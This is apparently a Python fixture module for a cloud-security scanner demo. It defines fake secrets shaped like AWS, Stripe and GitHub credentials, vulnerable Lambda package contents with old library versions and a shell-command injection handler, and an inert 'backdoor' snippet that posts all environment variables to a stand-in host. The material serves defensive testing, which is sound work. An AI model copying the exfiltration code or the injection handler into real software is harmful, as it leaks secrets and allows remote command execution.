"""The ShopFast demo estate's fixed parts: regions and accounts, made-up secrets, package
contents, and what a seed returns (:class:`Seeded`). No AWS calls here: see :mod:`.seed`."""

from __future__ import annotations

import base64
import hashlib
import io
import zipfile
from dataclasses import dataclass, field

PRIMARY = "us-east-1"
SECONDARY = "eu-west-1"
ACCOUNT = "123456789012"
FOREIGN_ACCOUNT = "444455556666"

# Values shaped like real secrets (made-up keys in AWS's formats and obviously fake tokens):
# they exist so the demo shows secret detection and redaction; none is a working credential.
# (AWS's documented example keys would not show a real-looking secret: Fortress names them as
# examples.)
FAKE_AWS_KEY_ID = "AKIA" + "Z7QX3JH2LKD9PVWM"
FAKE_AWS_SECRET = "Xq3vR8tLm2Pz9Kw4" + "Nb7Yc1Hd6Fj0Gs5Ue8Ai2Ox/"
FAKE_STRIPE_KEY = "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc"
FAKE_DB_PASSWORD = "Sup3r-S3cret-Passw0rd!"
FAKE_STAGE_TOKEN = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"
# Hard-coded in package content (issue 10): a key in payments-webhook's code, a token in the
# analytics-sdk layer.
FAKE_CODE_STRIPE_KEY = "sk_live_" + "51HqLyjWDarjtT1zdp7dcK9a"
FAKE_LAYER_TOKEN = "ghp_" + "9bX2kQ7mN4pR8sT1vW5yZ3aC6dE0fG2hJ4kL"
SEEDED_SECRETS = (
    FAKE_AWS_SECRET,
    FAKE_STRIPE_KEY,
    FAKE_DB_PASSWORD,
    FAKE_STAGE_TOKEN,
    FAKE_CODE_STRIPE_KEY,
    FAKE_LAYER_TOKEN,
)

# Package content for the package rules (issue 10): each function below ships one problem.
PAYMENTS_CODE = {
    "index.js": (
        "const stripe = require('stripe');\n"
        f"const STRIPE_KEY = '{FAKE_CODE_STRIPE_KEY}';\n\n"
        "exports.handler = async (event) => {\n"
        "  const client = stripe(STRIPE_KEY);\n"
        "  return { statusCode: 200, body: JSON.stringify({ ok: true }) };\n"
        "};\n"
    ),
    "package.json": '{"name": "payments-webhook", "version": "1.0.0"}\n',
    "node_modules/lodash/package.json": '{"name": "lodash", "version": "4.17.15"}\n',
}
ORDERS_WORKER_CODE = {
    "app.py": (
        "import json\n\nimport yaml\n\n\n"
        "def handler(event, context):\n"
        "    for record in event.get('Records', []):\n"
        "        order = json.loads(record['body'])\n"
        "        print(order.get('id'))\n"
        "    return {'statusCode': 200}\n"
    ),
    "PyYAML-5.3.dist-info/METADATA": "Metadata-Version: 2.1\nName: PyYAML\nVersion: 5.3\n",
    "yaml/__init__.py": "__version__ = '5.3'\n",
}
ADMIN_TOOLS_CODE = {
    "app.py": (
        "import subprocess\n\n\n"
        "def handler(event, context):\n"
        "    command = event['command']\n"
        "    done = subprocess.run(command, shell=True, capture_output=True)\n"
        "    return {'statusCode': 200, 'body': done.stdout.decode()}\n"
    ),
}
REPORTS_CODE = {
    "app.py": (
        "import os\n\n\n"
        "def handler(event, context):\n"
        "    password = os.environ['DB_PASSWORD']\n"
        "    with open('/tmp/db.cfg', 'w') as cfg:\n"
        "        cfg.write(password)\n"
        "    return {'statusCode': 200}\n"
    ),
}
ANALYTICS_LAYER = {
    "python/analytics.py": (
        f"GITHUB_TOKEN = '{FAKE_LAYER_TOKEN}'\n\n\ndef track(event):\n    return None\n"
    ),
    "python/PyYAML-5.3.dist-info/METADATA": "Metadata-Version: 2.1\nName: PyYAML\nVersion: 5.3\n",
}

# The "backdoor" planted in orders-api release 3 (inert text: the demo never runs code).
TELEMETRY = (
    "import json, os, urllib.request\n\n\n"
    "def report():\n"
    "    body = json.dumps(dict(os.environ)).encode()\n"
    "    urllib.request.urlopen('https://metrics.example.net/collect', data=body, timeout=2)\n"
)

LAMBDA_TRUST = {
    "Version": "2012-10-17",
    "Statement": [
        {
            "Effect": "Allow",
            "Principal": {"Service": "lambda.amazonaws.com"},
            "Action": "sts:AssumeRole",
        }
    ],
}


@dataclass
class Seeded:
    """What the seed created, for the demo's report and for tests."""

    endpoint: str
    functions: dict[str, str] = field(default_factory=dict)  # name -> ARN
    rest_api_id: str = ""
    # Every package uploaded, by its CodeSha256 (base64): the demo's package mirror serves
    # them, since the emulator's Code.Location is not reachable.
    packages: dict[str, bytes] = field(default_factory=dict)
    http_api_id: str = ""
    regions: tuple[str, ...] = (PRIMARY, SECONDARY)


def code_sha256(data: bytes) -> str:
    return base64.b64encode(hashlib.sha256(data).digest()).decode()


def zip_files(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.external_attr = 0o644 << 16
            archive.writestr(info, text)
    return buffer.getvalue()


def handler_code(name: str, version: int = 1, extra: dict[str, str] | None = None) -> bytes:
    body = f'''import json\n\n\ndef handler(event, context):\n    """{name} v{version}"""\n    return {{"statusCode": 200, "body": json.dumps({{"service": "{name}", "version": {version}}})}}\n'''
    files = {"app.py": body, "requirements.txt": "boto3==1.34.0\n"}
    files.update(extra or {})
    return zip_files(files)
